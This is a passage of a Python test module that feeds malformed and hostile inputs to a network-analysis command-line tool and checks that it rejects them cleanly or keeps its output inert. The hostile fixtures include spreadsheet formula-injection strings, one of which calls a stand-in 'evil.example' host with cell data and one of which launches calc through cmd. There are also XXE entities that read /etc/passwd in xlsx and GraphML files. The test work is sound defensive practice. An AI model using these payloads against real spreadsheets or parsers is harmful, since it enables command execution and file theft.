"""The hostile and careless inputs, each with its expected outcome written beside it.

A case is a generator: it builds its files in a fresh folder and names the command line
to run. Its outcome is ``OK`` (exit 0, and, where it matters, a check of the result) or
``Error(pattern)``: exit 1 with a message matching ``pattern``, which names the file and,
where there is one, the line (``relationships.csv:3:``). Here: validate, run, centrality,
flows, timeline, communities, robustness, export (read-back) and import-edges; corpus_commands.py
adds every other command that reads a file (map, report, path, brokers, ego, claims, merge,
fec ingest, fec filing).
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

TINY = Path(__file__).resolve().parents[1] / "fixtures" / "tiny"
ENTITY_HEADER = "id,name,type,name_ar,aliases,description"
RELATIONSHIP_HEADER = ("id,source,target,type,role,amount_usd,amount_qualifier,start_date,end_date,status,"
                       "aggregate,source_ids,evidence")


@dataclass(frozen=True)
class Error:
    """Exit 1, stderr matching ``pattern`` (a regular expression), no traceback."""

    pattern: str


@dataclass(frozen=True)
class Ok:
    """Exit 0; ``check(folder, stdout)`` may look at the result."""

    check: Callable[[Path, str], None] | None = None


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], list[str]]  # writes files under the folder, returns argv
    expect: Error | Ok = field(default_factory=Ok)


CASES: list[Case] = []


def case(name: str, expect: Error | Ok):
    def register(build):
        CASES.append(Case(name, build, expect))
        return build
    return register


def tiny(folder: Path) -> Path:
    data = folder / "data"
    shutil.copytree(TINY, data)
    return data


def with_relationship_cell(column: str, value: str, *, row: int = 1):
    """A tiny data folder whose relationship on ``row`` (r1: line 2) has ``value`` in ``column``."""
    def build(folder: Path) -> Path:
        data = folder / "data" if (folder / "data").exists() else tiny(folder)
        path = data / "relationships.csv"
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        rows[row][rows[0].index(column)] = value
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(rows)
        path.write_text(buffer.getvalue(), encoding="utf-8")
        return data
    return build


def with_entity_name(name: str):
    def build(folder: Path) -> Path:
        data = tiny(folder)
        path = data / "entities.csv"
        text = path.read_text(encoding="utf-8").replace("Acme Corp", name, 1)
        path.write_text(text, encoding="utf-8")
        return data
    return build


def put_file(path: Path, kind: str, content: bytes | None = None) -> None:
    """Put at ``path`` (absent) bytes, a folder, a dangling link, a link loop, a FIFO, /dev/zero or an unreadable file."""
    if kind == "bytes":
        path.write_bytes(content)
    elif kind == "folder":
        path.mkdir()
    elif kind == "dangling":
        path.symlink_to(path.parent / "no-such-file")
    elif kind == "loop":
        path.symlink_to(path)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    elif kind == "unreadable":
        path.write_bytes(content or b"x")
        path.chmod(0)


def replace_file(name: str, content: bytes | None = None, *, kind: str = "bytes"):
    """A tiny data folder whose ``name`` is replaced by bytes, a folder, a link, a FIFO..."""
    def build(folder: Path) -> Path:
        data = tiny(folder)
        path = data / name
        if path.exists() or path.is_symlink():
            path.unlink()
        put_file(path, kind, content)
        return data
    return build


READING_COMMANDS = {
    "validate": lambda data: ["validate", "--data", str(data)],
    "centrality": lambda data: ["centrality", "--data", str(data), "--format", "csv"],
    "flows": lambda data: ["flows", "--data", str(data), "--format", "csv"],
}

# ---------------------------------------------------------------- amounts (relationships.csv line 2)
AMOUNTS_REFUSED = ["1_000", "nan", "NaN", "inf", "-inf", "Infinity", "1e308", "1e16", "-5", "0.001", "1,00",
                   "12,34,567", "$5", "5 000", "0x10", "1e", "--1", "5..0", "five", "١_٠٠٠", "1000000000000001"]
AMOUNTS_ACCEPTED = {"1000": 1000.0, "١٠٠٠": 1000.0, "１００": 100.0, "۱۲۳": 123.0, "1,000": 1000.0,
                    "١٬٠٠٠": 1000.0, "2.5e3": 2500.0, "0": 0.0, "0.01": 0.01, "1e15": 1e15, "12.50": 12.5}


def _amount_is(expected: float):
    def check(folder: Path, out: str) -> None:
        rows = list(csv.DictReader(io.StringIO(out)))
        given = {row["id"]: float(row["given_usd"] or 0) for row in rows}
        assert abs(given["alice"] - (expected + 500000.0)) <= 1e-9 * (expected + 500000.0), given  # CSV: 10 digits
    return check


for command in ("validate", "flows"):
    for text in AMOUNTS_REFUSED:
        def build(folder, text=text, command=command):
            return READING_COMMANDS[command](with_relationship_cell("amount_usd", text)(folder))
        case(f"{command}-amount-{text!r}", Error(r"relationships\.csv:2: amount_usd"))(build)
for text, value in AMOUNTS_ACCEPTED.items():
    def build(folder, text=text):
        return ["flows", "--data", str(with_relationship_cell("amount_usd", text)(folder)), "--by", "entity", "--format", "csv"]
    case(f"flows-amount-ok-{text!r}", Ok(_amount_is(value)))(build)

# an amount on a type that carries no money (tiny: r5 executive on line 6, r6 competitor 7, r7 employee 8)
for command in ("validate", "flows", "centrality"):
    for row, kind, text in ((5, "executive", "5000"), (6, "competitor", "1,000"), (7, "employee", "0")):
        def build(folder, row=row, text=text, command=command):
            return READING_COMMANDS[command](with_relationship_cell("amount_usd", text, row=row)(folder))
        case(f"{command}-amount-on-{kind}", Error(rf"relationships\.csv:{row + 1}: amount_usd: an amount on type '{kind}', "
                                                  r"which carries no money \(found"))(build)

# ---------------------------------------------------------------- dates
DATES_REFUSED = ["2024-13", "2024-02-30", "0024", "1699", "2201", "99999", "2024/01/01", "01-02-2024", "2024-1",
                 "nan", "２０２４-１٣", "2024-01-01T00:00"]
DATES_ACCEPTED = ["٢٠٢٤-٠١", "２０２４-０１", "۲۰۲۴-۰۱", "2024-01", "1700", "2200-12-31"]
for command in ("validate", "centrality"):
    for text in DATES_REFUSED:
        def build(folder, text=text, command=command):
            return READING_COMMANDS[command](with_relationship_cell("start_date", text)(folder))
        case(f"{command}-date-{text!r}", Error(r"relationships\.csv:2: start_date"))(build)
for text in DATES_ACCEPTED:
    def build(folder, text=text):
        data = with_relationship_cell("end_date", text)(with_relationship_cell("start_date", text)(folder).parent)
        return ["timeline", "--data", str(data), "--format", "csv"]
    case(f"timeline-date-ok-{text!r}", Ok())(build)


for text in ("٢٠٢٤-٠١", "２０２４-０１"):
    def build(folder, text=text):
        data = with_relationship_cell("end_date", text)(with_relationship_cell("start_date", text)(folder).parent)
        return ["export", "--data", str(data), "--since", "2024-01", "--until", "2024-01", "--format", "relationships",
                "--out", str(folder / "out.csv")]

    def check(folder: Path, out: str) -> None:
        text = (folder / "out.csv").read_text(encoding="utf-8")
        assert ",r1," in text or "\nr1," in text, text  # the Arabic-Indic date is a date, not undated
        assert "2024-01,2024-01" in text  # written back in ASCII digits
    case(f"export-since-arabic-date-{text!r}", Ok(check))(build)

# ---------------------------------------------------------------- files that are not files
FILE_KINDS = {
    "folder": (None, "folder", r"a folder, not a file"),
    "dangling-link": (None, "dangling", r"dangling symbolic link"),
    "symlink-loop": (None, "loop", r"cannot open"),
    "fifo": (None, "fifo", r"not a regular file"),
    "dev-zero": (None, "device", r"not a regular file"),
    "binary": (bytes(range(256)) * 4, "bytes", r"not UTF-8|NUL"),
    "utf16": ("id,name\n".encode("utf-16"), "bytes", r"not UTF-8|NUL"),
    "latin1": ("id,name,type,name_ar,aliases,description\nx,Zo\xeb,person,,,\n".encode("latin-1"), "bytes", r":2: \(encoding\)"),
    "nul": (b"id,name\x00\n", "bytes", r"NUL"),
    "empty": (b"", "bytes", r"file is empty"),
    "unclosed-quote": (b'id,name,type,name_ar,aliases,description\n"x,y\n', "bytes", r":2: \(row\)|required"),
    "huge-cell": (("id,name,type,name_ar,aliases,description\nx," + "a" * 1_200_000 + ",person,,,\n").encode(), "bytes", r"\(row\): unreadable CSV"),
    "gzip": (b"\x1f\x8b\x08\x00" + bytes(64), "bytes", r"not UTF-8|NUL"),
}
for file_name in ("entities.csv", "relationships.csv", "sources.csv"):
    for kind_name, (content, kind, pattern) in FILE_KINDS.items():
        for command in ("validate", "centrality"):
            def build(folder, file_name=file_name, content=content, kind=kind, command=command):
                return READING_COMMANDS[command](replace_file(file_name, content, kind=kind)(folder))
            # the file and a line; the specific reason where the content does not depend on the file's columns
            specific = pattern if kind != "bytes" or kind_name in ("binary", "utf16", "nul", "empty", "gzip") else ""
            case(f"{command}-{file_name}-{kind_name}", Error(re.escape(file_name) + r":\d+: [^\n]*" + specific))(build)

# ---------------------------------------------------------------- schema.toml
BUNDLED_SCHEMA = (Path(__file__).resolve().parents[2] / "data" / "schema.toml").read_text(encoding="utf-8")


def with_schema(old: str | None, new: str | None = None, *, kind: str = "text"):
    """A tiny data folder with its own schema.toml: the bundled one with ``old`` replaced by ``new``."""
    def build(folder: Path) -> Path:
        data = tiny(folder)
        path = data / "schema.toml"
        if kind == "text":
            text = BUNDLED_SCHEMA if old is None else BUNDLED_SCHEMA.replace(old, new, 1)
            path.write_text(text, encoding="utf-8")
        else:
            put_file(path, kind, new)
        return data
    return build


STRENGTH = "default_strength = 3.0\nlittlesis = \"Donation/Grant\""
def _line_of(text: str) -> int:
    """The line of the bundled schema where ``text`` (a table header) starts: problems in a table are reported there."""
    return BUNDLED_SCHEMA[:BUNDLED_SCHEMA.index(text)].count("\n") + 1


WEIGHTS, STATUS = _line_of("\n[weights]\n") + 1, _line_of("[weights.status]")
SCHEMA_CASES = {
    "inf-strength": (STRENGTH, STRENGTH.replace("3.0", "inf"), r"schema\.toml:72: relationship_types\.donation\.default_strength"),
    "nan-strength": (STRENGTH, STRENGTH.replace("3.0", "nan"), r"schema\.toml:72: relationship_types\.donation\.default_strength"),
    "minus-inf-strength": (STRENGTH, STRENGTH.replace("3.0", "-inf"), r"schema\.toml:72: [^\n]*default_strength"),
    "negative-strength": (STRENGTH, STRENGTH.replace("3.0", "-1.0"), r"schema\.toml:72: [^\n]*default_strength"),
    "zero-strength": (STRENGTH, STRENGTH.replace("3.0", "0"), r"schema\.toml:72: [^\n]*default_strength"),
    "huge-strength": (STRENGTH, STRENGTH.replace("3.0", "1e300"), r"schema\.toml:72: [^\n]*default_strength"),
    "text-strength": (STRENGTH, STRENGTH.replace("3.0", '"3"'), r"schema\.toml:72: [^\n]*default_strength"),
    "bool-strength": (STRENGTH, STRENGTH.replace("3.0", "true"), r"schema\.toml:72: [^\n]*default_strength"),
    "array-strength": (STRENGTH, STRENGTH.replace("3.0", "[3.0]"), r"schema\.toml:72: [^\n]*default_strength"),
    "money-base-nan": ("money_base = 1.0", "money_base = nan", rf"schema\.toml:{WEIGHTS}: weights\.money_base"),
    "money-base-inf": ("money_base = 1.0", "money_base = inf", rf"schema\.toml:{WEIGHTS}: weights\.money_base"),
    "money-unit-inf": ("money_unit_usd = 1000.0", "money_unit_usd = inf", rf"schema\.toml:{WEIGHTS}: weights\.money_unit_usd"),
    "money-unit-zero": ("money_unit_usd = 1000.0", "money_unit_usd = 0", rf"schema\.toml:{WEIGHTS}: weights\.money_unit_usd"),
    "status-inf": ("confirmed = 1.0", "confirmed = inf", rf"schema\.toml:{STATUS}: weights\.status\.confirmed"),
    "status-text": ("confirmed = 1.0", 'confirmed = "high"', rf"schema\.toml:{STATUS}: weights\.status\.confirmed"),
    "money-scale-number": ('money_scale = "log"', "money_scale = 5", rf"schema\.toml:{WEIGHTS}: weights\.money_scale"),
    "layer-not-a-table": ("[layers.money]", "[layers.moneyx]\n[layers]\nmoney = 5\n[layers.money2]", r"schema\.toml:\d+: "),
    "type-not-a-table": ("[relationship_types.donation]", '[relationship_types]\nbogus_type = 5\n\n[relationship_types.donation]',
                         r"schema\.toml:\d+: relationship_types\.bogus_type: not a table"),
    "weights-a-number": ("[weights]\n", "[weights_old]\n", None),
    "bad-toml": ("[weights]", "[weights", rf"schema\.toml:{WEIGHTS}: \(toml\)"),
    "duplicate-table": ("[weights.status]", "[weights]\n[weights.status]", r"schema\.toml:\d+: \(toml\)"),
    "unknown-layer": ('layer = "money"\ninfluence = "forward"\ndefault_strength = 3.0', 'layer = "cash"\ninfluence = "forward"\ndefault_strength = 3.0',
                      r"schema\.toml:72: relationship_types\.donation\.layer"),
    "bad-pattern": (None, None, None),
}
for name, (old, new, pattern) in SCHEMA_CASES.items():
    if old is None:
        continue
    for command in ("validate", "centrality"):
        def build(folder, old=old, new=new, command=command):
            return READING_COMMANDS[command](with_schema(old, new)(folder))
        case(f"{command}-schema-{name}", Ok() if pattern is None else Error(pattern))(build)
SCHEMA_FILES = {
    "folder": (None, "folder", r"schema\.toml:0: \(file\): a folder, not a file"),
    "dangling": (None, "dangling", r"schema\.toml:0: \(file\): a link to nothing"),
    "loop": (None, "loop", r"schema\.toml:0: \(file\): cannot open"),
    "fifo": (None, "fifo", r"schema\.toml:0: \(file\): not a regular file"),
    "binary": (bytes(range(256)), "bytes", r"schema\.toml:2: \(encoding\)"),
    "utf16": (BUNDLED_SCHEMA.encode("utf-16"), "bytes", r"schema\.toml:1: \(encoding\)"),
    "empty": (b"", "bytes", r"schema\.toml:1: layers: no layers defined"),
    "array-root": (b"layers = [1, 2]\nentity_types = 3\nrelationship_types = 'x'\nweights = 4\n", "bytes", r"schema\.toml:1: layers: not a table"),
}
for name, (content, kind, pattern) in SCHEMA_FILES.items():
    for command in ("validate", "run"):
        def build(folder, content=content, kind=kind, command=command):
            data = with_schema(None, content, kind=kind)(folder)
            if command == "run":
                return ["run", "--data", str(data), "--out", str(folder / "out")]
            return READING_COMMANDS[command](data)
        case(f"{command}-schema-file-{name}", Error(pattern))(build)

# ---------------------------------------------------------------- options
OPTION_CASES = {
    "min-amount-nan": (["--min-amount-usd", "nan"], r"--min-amount-usd"),
    "min-amount-inf": (["--min-amount-usd", "inf"], r"--min-amount-usd"),
    "min-amount-negative": (["--min-amount-usd", "-5"], r"--min-amount-usd"),
    "min-amount-underscore": (["--min-amount-usd", "1_000"], r"--min-amount-usd"),
    "min-amount-words": (["--min-amount-usd", "lots"], r"--min-amount-usd"),
    "since-bad-month": (["--since", "2024-13"], r"--since"),
    "since-words": (["--since", "yesterday"], r"--since"),
    "until-year-0": (["--until", "0000"], r"--until"),
    "unknown-layer": (["--layer", "cash"], r"unknown layer"),
    "top-underscore": (["--top", "1_0"], r"--top"),
    "top-huge": (["--top", "9" * 40], r"--top"),
    "seed-float": (["--seed", "1.5"], r"--seed"),
    "unknown-option": (["--frobnicate"], r"unrecognized arguments"),
}
for name, (extra, pattern) in OPTION_CASES.items():
    def build(folder, extra=extra):
        return ["centrality", "--data", str(TINY), *extra]
    case(f"centrality-option-{name}", Error(pattern))(build)
for name, extra in {"min-amount-arabic": ["--min-amount-usd", "١٠٠٠"], "min-amount-commas": ["--min-amount-usd", "1,000"],
                    "since-arabic": ["--since", "٢٠٢٤"], "since-full-width": ["--since", "２０２４-０１"]}.items():
    def build(folder, extra=extra):
        return ["centrality", "--data", str(TINY), *extra]
    case(f"centrality-option-ok-{name}", Ok())(build)
for name, extra, pattern in (
        ("resolution-nan", ["--resolution", "nan"], r"--resolution"), ("resolution-zero", ["--resolution", "0"], r"--resolution"),
        ("runs-text", ["--runs", "many"], r"--runs")):
    def build(folder, extra=extra):
        return ["communities", "--data", str(TINY), *extra]
    case(f"communities-option-{name}", Error(pattern))(build)
for name, extra, pattern in (("drop-nan", ["--drop-probability", "nan"], r"--drop-probability"),
                             ("drop-above-one", ["--drop-probability", "1.5"], r"--drop-probability")):
    def build(folder, extra=extra):
        return ["robustness", "--data", str(TINY), *extra]
    case(f"robustness-option-{name}", Error(pattern))(build)


def out_under_a_file(folder: Path) -> list[str]:
    (folder / "plain").write_text("x")
    return ["run", "--data", str(TINY), "--out", str(folder / "plain" / "out")]


case("run-out-under-a-file", Error(r"influence: error: "))(out_under_a_file)
case("run-out-in-proc", Error(r"influence: error: "))(lambda folder: ["run", "--data", str(TINY), "--out", "/proc/influence-out"])
case("export-out-is-a-folder", Error(r"influence: error: "))(
    lambda folder: (folder.joinpath("x.csv").mkdir(), ["export", "--data", str(TINY), "--format", "csv", "--out", str(folder / "x.csv")])[1])

# ---------------------------------------------------------------- import-edges: spreadsheets
GOOD_ROW = "Carol Doe,Dan PAC,2500"


def import_csv(text: str, *, suffix: str = ".csv", extra: tuple[str, ...] = ()):
    def build(folder: Path) -> list[str]:
        path = folder / f"gifts{suffix}"
        path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
        return ["import-edges", str(path), "--source-col", "Donor", "--target-col", "Recipient",
                "--amount-col", "Amount", "--out", str(folder / "out"), *extra]
    return build


def imported(amounts: dict[str, str] | None = None, *, skipped_lines: tuple[int, ...] = (), read: int | None = None):
    """Check: the written relationships have these amounts by id, these lines were reported skipped, counts add up."""
    def check(folder: Path, out: str) -> None:
        rows = list(csv.DictReader(open(folder / "out" / "relationships.csv", encoding="utf-8")))
        if amounts is not None:
            assert {r["id"]: r["amount_usd"] for r in rows} == amounts, rows
        for line in skipped_lines:
            assert re.search(rf"gifts\.\w+:{line}: ", out), out
        found = re.search(r"read (\d+) rows", out)
        written = re.search(r"imported (\d+) relationships", out)
        skipped = re.search(r"skipped (\d+) rows", out)
        assert int(found.group(1)) == int(written.group(1)) + (int(skipped.group(1)) if skipped else 0), out
        if read is not None:
            assert int(found.group(1)) == read, out
    return check


HEADER = "Donor,Recipient,Amount\n"
case("import-unquoted-million", Ok(imported({"gifts-3": "2500"}, skipped_lines=(2,))))(
    import_csv(HEADER + "Alice Doe,Bob PAC,$1,000,000\n" + GOOD_ROW + "\n"))
case("import-quoted-million", Ok(imported({"gifts-2": "1000000"})))(import_csv(HEADER + 'Alice Doe,Bob PAC,"$1,000,000"\n'))
case("import-only-bad-row", Error(r"no row of [^\n]*gifts\.csv could be imported"))(
    import_csv(HEADER + "Alice Doe,Bob PAC,$1,000,000\n"))
for text in AMOUNTS_REFUSED:
    if "," in text or text == "$5":  # $5 is dollars in a spreadsheet (import-edges strips a leading $)
        continue
    case(f"import-amount-refused-{text!r}", Ok(imported({"gifts-3": "2500"}, skipped_lines=(2,))))(
        import_csv(HEADER + f"Alice Doe,Bob PAC,{text}\n" + GOOD_ROW + "\n"))
for text, value in {"١٠٠٠": "1000", "１００": "100", "$25,000": "25000", "25000 USD": "25000", "$ 7": "7"}.items():
    quoted = f'"{text}"' if "," in text else text
    case(f"import-amount-ok-{text!r}", Ok(imported({"gifts-2": value})))(import_csv(HEADER + f"Alice Doe,Bob PAC,{quoted}\n"))
case("import-short-row", Ok(imported({"gifts-2": "", "gifts-3": "2500"})))(import_csv(HEADER + "Alice Doe,Bob PAC\n" + GOOD_ROW + "\n"))
case("import-bom-crlf", Ok(imported({"gifts-2": "2500"})))(import_csv("\ufeff" + HEADER.replace("\n", "\r\n") + GOOD_ROW + "\r\n"))
case("import-tsv", Ok(imported({"gifts-2": "2500"})))(import_csv("Donor\tRecipient\tAmount\nCarol Doe\tDan PAC\t2500\n", suffix=".tsv"))
case("import-formula-names", Ok(imported({"gifts-2": "2500"})))(import_csv(HEADER + '"=HYPERLINK(""http://x"")",@evil,2500\n'))
case("import-huge-cell", Error(r"gifts\.csv:2: \(row\): unreadable CSV"))(import_csv(HEADER + "A," + "b" * 1_100_000 + ",5\n"))
case("import-unclosed-quote", Error(r"gifts\.csv:2: \(row\)|no row"))(import_csv(HEADER + '"Alice,Bob,5\n'))
case("import-binary", Error(r"gifts\.csv:\d+: \(encoding\)"))(import_csv(bytes(range(256))))
case("import-latin1", Error(r"gifts\.csv:2: \(encoding\)"))(import_csv((HEADER + "Zo\xeb,Bob,5\n").encode("latin-1")))
case("import-empty", Error(r"gifts\.csv: the file is empty"))(import_csv(""))
case("import-header-only", Error(r"no row of"))(import_csv(HEADER))
case("import-no-such-column", Error(r"no column 'Amount'"))(import_csv("Donor,Recipient\nA,B\n"))
case("import-unknown-suffix", Error(r"expected a \.csv"))(import_csv(HEADER, suffix=".pdf"))
case("import-folder", Error(r"gifts\.csv:0: \(file\): a folder"))(
    lambda folder: (folder.joinpath("gifts.csv").mkdir(),
                    ["import-edges", str(folder / "gifts.csv"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])[1])
case("import-missing", Error(r"nothing\.csv:0: \(file\): file not found"))(
    lambda folder: ["import-edges", str(folder / "nothing.csv"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])
case("import-fifo", Error(r"gifts\.csv:0: \(file\): not a regular file"))(
    lambda folder: (os.mkfifo(folder / "gifts.csv"),
                    ["import-edges", str(folder / "gifts.csv"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])[1])
case("import-dev-zero", Error(r"gifts\.xlsx:0: \(file\): not a regular file"))(
    lambda folder: ((folder / "gifts.xlsx").symlink_to("/dev/zero"),
                    ["import-edges", str(folder / "gifts.xlsx"), "--source-col", "a", "--target-col", "b", "--out", str(folder / "out")])[1])
case("import-amount-on-associate", Ok(imported({"gifts-2": "2500"})))(import_csv(HEADER + GOOD_ROW + "\n"))
case("import-amount-on-executive", Ok(imported({"gifts-3": ""}, skipped_lines=(2,))))(
    import_csv(HEADER + GOOD_ROW + "\nCarol Doe,Dan PAC,\n", extra=("--type", "executive")))


def xlsx_bytes(rows: list[list], *, dimension: str | None = None, patch: Callable[[str], str] | None = None) -> bytes:
    """An .xlsx written by openpyxl, optionally with its sheet's ``<dimension>`` or XML rewritten."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    if dimension is None and patch is None:
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode("utf-8")
                if dimension is not None:
                    text = re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>', text)
                if patch is not None:
                    text = patch(text)
                data = text.encode("utf-8")
            target.writestr(item, data)
    return out.getvalue()


XLSX_ROWS = [["Donor", "Recipient", "Amount"]] + [[f"Donor {n}", f"PAC {n}", 1000 * n] for n in range(1, 7)]
ALL_SIX = {f"gifts-{n + 1}": str(1000 * n) for n in range(1, 7)}
case("xlsx-ok", Ok(imported(ALL_SIX, read=6)))(lambda folder: import_csv(xlsx_bytes(XLSX_ROWS), suffix=".xlsx")(folder))
case("xlsx-understated-dimension", Ok(imported(ALL_SIX, read=6)))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, dimension="A1:C2"), suffix=".xlsx")(folder))
case("xlsx-single-cell-dimension", Ok(imported(ALL_SIX, read=6)))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, dimension="A1"), suffix=".xlsx")(folder))
case("xlsx-overstated-dimension", Ok(imported(ALL_SIX, read=6)))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, dimension="A1:Z900"), suffix=".xlsx")(folder))
# a formula with no saved value: plain arithmetic is evaluated, one that needs other cells is reported by line, never blank
case("xlsx-unsaved-arithmetic", Ok(imported({"gifts-2": ALL_SIX["gifts-2"], "gifts-3": "11000000"}, read=2)))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS[:2] + [["Alice", "Bob PAC", "=5500000*2"]]), suffix=".xlsx")(folder))
case("xlsx-unsaved-formula", Ok(imported({"gifts-2": ALL_SIX["gifts-2"]}, skipped_lines=(3,), read=2)))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS[:2] + [["Alice", "Bob PAC", "=SUM(Z1:Z9)*2"]]), suffix=".xlsx")(folder))
case("xlsx-saved-formula", Ok(imported({"gifts-2": "11000000"})))(
    lambda folder: import_csv(xlsx_bytes([XLSX_ROWS[0], ["Alice", "Bob PAC", "=5500000*2"]],
                                         patch=lambda t: t.replace("<f>5500000*2</f><v></v>", "<f>5500000*2</f><v>11000000</v>")
                                         .replace("<f>5500000*2</f>", "<f>5500000*2</f><v>11000000</v>")), suffix=".xlsx")(folder))
case("xlsx-formula-names", Ok(imported({"gifts-2": "5"})))(
    lambda folder: import_csv(xlsx_bytes([XLSX_ROWS[0], ["+cmd|' /C calc'!A0", "-2+3", 5]]), suffix=".xlsx")(folder))
case("xlsx-fake", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(import_csv(HEADER + GOOD_ROW, suffix=".xlsx"))
case("xlsx-truncated", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS)[:900], suffix=".xlsx")(folder))
case("xlsx-encrypted", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(
    import_csv(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048), suffix=".xlsx"))


def _zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in files.items():
            target.writestr(name, data)
    return out.getvalue()


case("xlsx-empty-zip", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(import_csv(_zip_of({}), suffix=".xlsx"))
case("xlsx-zip-of-text", Error(r"gifts\.xlsx:0: \(file\): not a readable \.xlsx workbook"))(
    import_csv(_zip_of({"readme.txt": b"hello"}), suffix=".xlsx"))
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
case("xlsx-xxe", Error(r"gifts\.xlsx:\d+: \((file|sheet)\): "))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, patch=lambda t: XXE + re.sub(r"^<\?xml[^>]*\?>", "", t).replace(">Donor 1<", ">&x;<")),
                              suffix=".xlsx")(folder))
case("xlsx-corrupt-sheet-xml", Error(r"gifts\.xlsx:\d+: \((file|sheet)\): "))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS, patch=lambda t: t[: len(t) // 2]), suffix=".xlsx")(folder))
case("xlsx-no-such-sheet", Error(r"no sheet 'Gifts'"))(
    lambda folder: import_csv(xlsx_bytes(XLSX_ROWS), suffix=".xlsx", extra=("--sheet", "Gifts"))(folder))

# ---------------------------------------------------------------- read-back of our exports, damaged
def exported(fmt: str, name: str, damage: Callable[[bytes], bytes] | None = None):
    """Export the tiny data as ``fmt``, optionally damage the file, and validate it as --data."""
    def build(folder: Path) -> list[str]:
        from analysis.cli import main
        path = folder / name
        assert main(["export", "--data", str(TINY), "--format", fmt, "--out", str(path)]) == 0
        if damage is not None:
            path.write_bytes(damage(path.read_bytes()))
        return ["validate", "--data", str(path)]
    return build


EXPORTS = {"graphml": "g.graphml", "gexf": "g.gexf", "json": "g.json", "ftm": "g.ftm.json", "csv": "edges.csv",
           "relationships": "relationships.csv"}
DAMAGE = {
    "truncated": lambda raw: raw[: len(raw) // 2],
    "binary": lambda raw: bytes(range(256)) + raw,
    "empty": lambda raw: b"",
}
for fmt, name in EXPORTS.items():
    case(f"readback-{fmt}-intact", Ok())(exported(fmt, name))
    for damage_name, damage in DAMAGE.items():
        if fmt == "ftm" and damage_name == "empty":  # FtM JSON lines: an empty file is an empty network
            case(f"readback-{fmt}-{damage_name}", Ok())(exported(fmt, name, damage))
            continue
        case(f"readback-{fmt}-{damage_name}", Error(re.escape(name) + r"(:\d+)?: "))(exported(fmt, name, damage))
case("readback-json-wrong-shape", Error(r"g\.json:\d+: "))(
    exported("json", "g.json", lambda raw: b'{"nodes": 5, "links": "x", "graph": []}'))
case("readback-json-list", Error(r"g\.json:\d+: "))(exported("json", "g.json", lambda raw: b"[1, 2, 3]"))
case("readback-ftm-not-objects", Error(r"g\.ftm\.json:\d+: "))(exported("ftm", "g.ftm.json", lambda raw: b'{"schema": 1}\n[]\n"x"\n'))
case("readback-graphml-xxe", Error(r"g\.graphml:\d+: "))(exported(
    "graphml", "g.graphml", lambda raw: b'<?xml version="1.0"?><!DOCTYPE g [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + re.sub(rb"^<\?xml[^>]*\?>", b"", raw).replace(b"Acme Corp", b"&x;")))


# ---------------------------------------------------------------- hostile names: outputs stay inert and exact
def _no_live_formula(folder: Path, out: str) -> None:
    for path in (folder / "out").rglob("*.csv"):
        for row in csv.reader(open(path, encoding="utf-8")):
            for cell in row:
                assert not re.match(r"^[=+\-@\t\r]", cell) or re.match(r"^[+-]?[0-9.]+(e[+-]?[0-9]+)?$", cell), (path, cell)


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
                 "\tTabbed", "Red \x1b[31m escape", "$$x$$ money", "<script>alert(1)</script>", "'=quoted already",
                 "Name\u202eevil", "x" * 5000]
for number, name in enumerate(HOSTILE_NAMES):
    def build(folder, name=name):
        return ["run", "--data", str(with_entity_name(name)(folder)), "--out", str(folder / "out")]
    if number < 6 or number in (8,):
        case(f"run-hostile-name-{number}", Ok(_no_live_formula))(build)
    else:
        case(f"run-hostile-name-{number}", Ok())(build)
    def build_roundtrip(folder, name=name):
        data = with_entity_name(name)(folder)
        from analysis.cli import main
        assert main(["export", "--data", str(data), "--format", "relationships", "--out", str(folder / "r.csv")]) == 0
        return ["export", "--data", str(folder / "r.csv"), "--format", "nodes", "--out", str(folder / "nodes.csv")]

    def roundtrip_check(folder: Path, out: str, name=name) -> None:
        from network.formats.read import read_data
        names = set(read_data(folder / "r.csv").entities["name"])
        # a hand-written cell "'=x" reads as "=x": the quote is taken as our own neutralization (docs/exports.md)
        assert re.sub(r"^'(?=[=+\-@])", "", name.strip()) in names, names
    case(f"roundtrip-hostile-name-{number}", Ok(roundtrip_check))(build_roundtrip)


def long_id(folder: Path) -> list[str]:
    """An id of 300 characters is valid data: its ego map gets a shortened file name (the id's start and a hash)."""
    data = tiny(folder)
    for name in ("entities.csv", "relationships.csv"):
        path = data / name
